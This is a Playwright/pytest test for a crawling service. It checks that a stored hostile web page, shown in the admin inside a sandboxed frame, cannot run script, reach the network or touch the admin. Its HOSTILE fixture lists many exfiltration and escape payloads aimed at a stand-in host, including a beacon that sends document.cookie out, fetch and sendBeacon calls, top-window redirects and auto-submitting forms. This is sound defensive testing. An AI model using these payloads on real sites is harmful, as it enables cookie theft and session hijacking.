"""A kept page of a hostile site, looked at in the admin with a real browser: nothing of it runs,
nothing leaves, and the admin is out of its reach."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING, Literal

import pytest
from playwright.sync_api import expect

from crawlframe.frontier import Frontier
from crawlframe.pages.copy import HeldBytes, PageCopy
from crawlframe.request.request import Request, make_rid
from crawlframe.run.outcome import Outcome, Verdict
from crawlservice.ledger.store import DjangoLedger
from crawlservice.models import KeptPage, Task
from tests.browser.conftest import chromium
from tests.servers import served

if TYPE_CHECKING:
    from playwright.sync_api import Page

SCREENS: tuple[tuple[Literal["light", "dark"], int], ...] = (("light", 1280), ("dark", 390))

pytestmark = pytest.mark.process

# Every way out that a page may try; {there} is a server that must not be connected to.
HOSTILE = """<!DOCTYPE html><html manifest="{there}/manifest"><head>
<base href="{there}/base/" target="_top">
<meta http-equiv="refresh" content="0; url={there}/refresh">
<META HTTP-EQUIV=refresh CONTENT="0;{there}/refresh2">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {there}/csp">
<link rel="preconnect" href="{there}"><link rel="preconnect" href="{there}" crossorigin>
<LINK/REL=preconnect HREF={there}>
<link rel="dns-prefetch" href="{there}"><link rel="prefetch" href="{there}/prefetch">
<link rel="preload" as="image" href="{there}/preload"><link rel="prerender" href="{there}/pre">
<link rel="modulepreload" href="{there}/module"><link rel="stylesheet" href="{there}/style.css">
<link rel="icon" href="{there}/icon"><link rel="manifest" href="{there}/app">
<style>@import "{there}/import.css"; @font-face {{ font-family: x; src: url({there}/font) }}
body {{ background: url({there}/background); font-family: x; cursor: url({there}/cursor), auto }}
#seen {{ color: rgb(1, 2, 3) }} li::before {{ content: url({there}/content) }}</style>
<script src="{there}/script.js"></script>
<script type="speculationrules">{{"prerender": [{{"urls": ["{there}/speculated"]}}]}}</script>
<script>parent.ran = top.ran = 1; top.location = "{there}/top"; fetch("{there}/fetch");
new Image().src = "{there}/beacon?" + document.cookie; open("{there}/open");
navigator.sendBeacon("{there}/beacon"); new WebSocket("{there}".replace("http", "ws"));</script>
</head><body onload="location = '{there}/onload'">
<h1 id="seen">Hello</h1>
<noscript><link rel="preconnect" href="{there}"><meta http-equiv=refresh content="0;{there}/n">
</noscript>
<img src="{there}/img" srcset="{there}/srcset 2x" onerror="top.ran = 1">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" id="inline">
<picture><source srcset="{there}/source"><img src="{there}/img2"></picture>
<video src="{there}/video" poster="{there}/poster" autoplay></video>
<audio src="{there}/audio" autoplay></audio><track src="{there}/track">
<iframe src="{there}/frame"></iframe><iframe srcdoc="<img src={there}/srcdoc>"></iframe>
<object data="{there}/object"></object><embed src="{there}/embed"><portal src="{there}/portal">
<frameset><frame src="{there}/frameset"></frameset>
<form action="{there}/form" id="f" target="_top"><input name="q" autofocus
onfocus="this.form.submit()"><button id="send">send</button></form>
<a href="{there}/link" id="away" ping="{there}/ping" style="display:block">away</a>
<a href="{there}/top" id="top" target="_top" style="display:block">top</a>
<a href="{there}/blank" id="blank" target="_blank" style="display:block">blank</a>
<a href="{there}/file.exe" id="load" download style="display:block">download</a>
<a href="data:text/html,x" id="data" style="display:block">data</a>
<svg><image href="{there}/svg" /><use href="{there}/use#a" /><style>@import "{there}/s";</style>
<script>top.ran = 1</script><a href="{there}/svglink"><text y="9">x</text></a></svg>
<svg width="99" height="20"><a id="moved"><text y="15">moved</text>
<animate attributeName="href" values="{there}/animated" dur="9s" repeatCount="99" />
<set attributeName="href" to="{there}/set" /></a></svg>
<math><mtext></math><table background="{there}/table"><tr><td background="{there}/td"></table>
<input type="image" src="{there}/input"><body background="{there}/body">
<div style="background: url({there}/inline-style)">x</div><ul><li>x</ul>
<!--><script>top.ran = 1</script>--><template><link rel=preconnect href="{there}"></template>
</body></html>"""


@contextmanager
def listening() -> Iterator[tuple[str, list[bytes]]]:
    """The address of a server, and the first bytes of each connection that it has got."""
    seen: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        over = threading.Event()

        def accept() -> None:
            while not over.is_set():
                try:
                    connection, _ = server.accept()
                except OSError:
                    continue
                with connection:
                    connection.settimeout(0.2)
                    try:
                        seen.append(connection.recv(200))
                    except OSError:
                        seen.append(b"")

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", seen
        over.set()
        thread.join(10)


def keep(body: bytes, kind: str = "text/html") -> KeptPage:
    task = Task.objects.create(spider="shop", arguments={}, seeds=b"")
    request = Request("http://shop.example/")
    rid = make_rid(task.pk, request.fingerprint())
    outcome = Outcome(rid, task.pk, "shop.example", request.encode(), 1, 1)
    outcome.url = request.url
    headers = {"sent": [["Accept", "*/*"]], "received": [["Content-Type", kind]]}
    copy = PageCopy(
        request.url, "shop.example", "GET", 200, headers, body, request.encode(), HeldBytes()
    )
    outcome.results.page = copy
    outcome.end(Verdict.ERROR, "callback", "KeyError: 'price'")
    copy.reason, copy.size = "callback", len(body)
    DjangoLedger().commit([outcome])
    return KeptPage.objects.latest("pk")


def test_the_test_sees_what_a_page_does_without_our_care() -> None:
    with listening() as (there, seen), chromium() as browser:
        page = browser.new_page()
        page.set_content(f'<link rel="preconnect" href="{there}"><img src="{there}/img">')
        deadline = time.monotonic() + 30
        while not seen and time.monotonic() < deadline:
            time.sleep(0.1)
        assert seen


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_nothing_of_a_hostile_page_runs_or_leaves(
    service: Frontier, manage_env: dict[str, str], open_page: Callable[[str], Page]
) -> None:
    with listening() as (there, seen), served(manage_env) as (address, _):
        row = keep(HOSTILE.format(there=there).encode())
        plain = keep(b"<h1 id=seen>Hello</h1><p>" + b"A long line of words. " * 40)
        place = f"{address}admin/crawlservice/keptpage/{row.pk}/change/"
        page = open_page(place)
        opened: list[object] = []
        page.context.on("page", lambda one: opened.append(one))
        page.on("download", lambda one: opened.append(one))
        page.on("dialog", lambda one: opened.append(one))
        page.locator(".cf-page-frame").scroll_into_view_if_needed()
        frame = page.frame_locator(".cf-page-frame")
        expect(frame.locator("#seen")).to_have_text("Hello")
        expect(frame.locator("#seen")).to_have_css("color", "rgb(1, 2, 3)")  # it is rendered
        page.wait_for_timeout(1500)
        assert seen == []  # by itself; and after a click:
        assert frame.locator("#inline").evaluate("one => one.complete")
        for link in ("away", "top", "blank", "load", "data", "moved"):
            frame.locator(f"#{link}").click(timeout=5000, no_wait_after=True, force=True)
            page.wait_for_timeout(300)
            if page.frame_locator(".cf-page-frame").locator("#seen").count() == 0:
                page.goto(place)  # the browser shows that it has blocked it
                page.locator(".cf-page-frame").scroll_into_view_if_needed()
                expect(frame.locator("#seen")).to_have_text("Hello")
        frame.locator("#send").click(timeout=5000, no_wait_after=True, force=True)
        page.wait_for_timeout(1500)
        assert page.url.partition("#")[0] == place
        assert page.evaluate("window.ran") is None
        assert opened == []
        assert seen == []
        assert len(page.locator("#cf-source pre").inner_text()) > 1000  # as text
        # By itself it is not shown: the browser gets the page with the frame.
        page.goto(f"{place.removesuffix('change/')}frame/")
        assert page.url.partition("#")[0] == place
        assert seen == []
        _reach_into_the_admin(page, f"{address}admin/crawlservice/keptpage/{plain.pk}/change/")


def _reach_into_the_admin(page: Page, place: str) -> None:
    """A frame finds nothing of the admin, and has room on every screen."""
    for scheme, width in SCREENS:
        page.emulate_media(color_scheme=scheme)
        page.set_viewport_size({"width": width, "height": 844})
        page.goto(place)
        page.locator(".cf-page-frame").scroll_into_view_if_needed()
        expect(page.frame_locator(".cf-page-frame").locator("#seen")).to_have_text("Hello")
        wide = "document.documentElement.scrollWidth > document.documentElement.clientWidth"
        assert not page.evaluate(wide)
    assert page.evaluate("window.violations") == []
    frame = next(one for one in page.frames if one != page.main_frame)
    # The debugger runs this in the frame, where no script of the page could.
    assert frame.evaluate("self.origin") == "null"
    for reach in ("document.cookie", "parent.document.title", "localStorage.length"):
        said = frame.evaluate(f"(() => {{ try {{ return String({reach}) }} catch (e) "
                              "{ return e.name } })()")  # fmt: skip
        assert said == "SecurityError", reach
